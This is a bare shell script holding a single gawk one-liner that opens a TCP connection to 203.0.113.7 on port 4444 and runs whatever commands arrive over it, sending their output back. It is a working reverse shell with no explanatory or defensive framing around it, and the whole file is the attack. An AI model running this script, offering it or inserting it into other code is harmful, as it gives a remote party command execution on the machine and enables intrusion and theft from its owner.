#!/bin/sh
awk 'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while (1) {printf "> " |& s; s |& getline c; while ((c |& getline) > 0) print |& s; close(c)}}'
